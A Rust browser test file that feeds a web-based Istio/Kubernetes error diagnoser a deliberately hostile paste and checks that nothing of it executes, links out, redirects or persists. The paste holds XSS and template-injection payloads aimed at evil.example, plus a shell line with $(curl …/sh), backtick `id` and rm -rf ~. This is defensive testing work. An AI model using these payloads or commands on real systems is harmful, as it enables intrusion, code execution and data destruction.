//! A paste that wants out: at every door a browser has, it stays text, and nothing is asked for.

use crate::disk::{NAME, dist};
use crate::page::{Page, visit};
use crate::pastes::MESH;
use serde_json::json;

/// Markup, addresses, templates and scripts in every place of an output whose content reaches the report.
fn paste() -> String {
    const BAIT: &str = "<img src=https://evil.example/i onerror=alert(1)>";
    let mesh = MESH.replace("severity: ERROR", &format!("severity: ERROR\n      note: \"{BAIT}\""));
    let mesh = mesh.replace("One or more", &format!("{BAIT}</textarea></script><svg onload=alert(1)> One or more"));
    format!(
        "{mesh}\n\
         <base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>\n\
         <link rel=stylesheet href=https://evil.example/a.css><iframe src=https://evil.example/></iframe>\n\
         {{{{constructor.constructor('alert(1)')()}}}} ${{alert(1)}} <%= 1 %> javascript:alert(1) data:text/html,<script>alert(1)</script>\n\
         Error from server (InternalError): failed calling webhook \"rev.namespace.sidecar-injector.istio.io\": no endpoints \
         available for service \"istiod-asm-1143-0\" [x](javascript:alert(1)) ![x](https://evil.example/md) {BAIT}\n\
         kubectl describe replicaset $(curl https://evil.example/sh) -n `id`; rm -rf ~\n"
    )
}

/// Opens all there is to open, and says what came of the bait.
#[track_caller]
fn nothing_came_of_it(page: &Page) {
    page.paste("textarea", &paste());
    page.finding("webhook/istiod-no-endpoints");
    for lang in ["ja", "en"] {
        page.find(&format!("[data-choice='{lang}']")).click();
        page.wait("the report in that language", || {
            (page.find(".report-body").attribute("lang").as_deref() == Some(lang)).then_some(())
        });
        page.script("document.querySelectorAll('details').forEach((one) => { one.open = true })", &json!([]));
        let planted = page.script(
            "const made = [...document.body.querySelectorAll('img, iframe, object, embed, base, meta, link, svg, script')]
               .filter((one) => one.closest('#app') && !one.closest('.picture') && one.outerHTML.match(/evil|alert/));
             const handlers = [...document.querySelectorAll('#app *')].filter((one) =>
               [...one.attributes].some(({ name, value }) => name.startsWith('on') || /^\\s*(javascript|data):/i.test(value)));
             const page = location.href.split('#')[0];
             const own = (href) => ['#/rules', '#/guides'].some((place) => href.startsWith(`${page}${place}`)) || ['licenses.html', 'meshmedic.html'].some((file) => href === new URL(file, page).href);
             const documents = /^https:\\/\\/([a-z.]+\\.)?(google|istio|kubernetes)\\.[a-z]+\\//;
             const links = [...document.links].map(({ href }) => href);
             return [made.length, handlers.length, links.filter((href) => !own(href) && !documents.test(href))]",
            &json!([]),
        );
        assert_eq!(planted, json!([0, 0, []]), "{lang}");
    }
    // What goes to a terminal holds nothing of a shell's.
    let commands = page.commands(".report").join("\n");
    assert!(!commands.contains("evil") && !commands.contains('`') && !commands.contains("$("), "{commands}");
    // Nor is anything of it kept where the browser keeps things.
    let stored = page.script_async(
        "const done = arguments[0];
         indexedDB.databases().then((bases) => done([localStorage.length, sessionStorage.length, bases.length, document.cookie]))",
        &json!([]),
    );
    assert_eq!(stored, json!([0, 0, 0, ""]));
    assert!(page.script("return location.href", &json!([])).as_str().is_some_and(|href| !href.contains("evil")));
}

#[test]
fn a_hostile_paste_asks_for_nothing_on_the_site() {
    visit(nothing_came_of_it);
}

#[test]
fn a_hostile_paste_asks_for_nothing_in_the_single_file() {
    let page = Page::from_disk(&dist());
    page.goto(NAME);
    nothing_came_of_it(&page);
    page.finish();
}
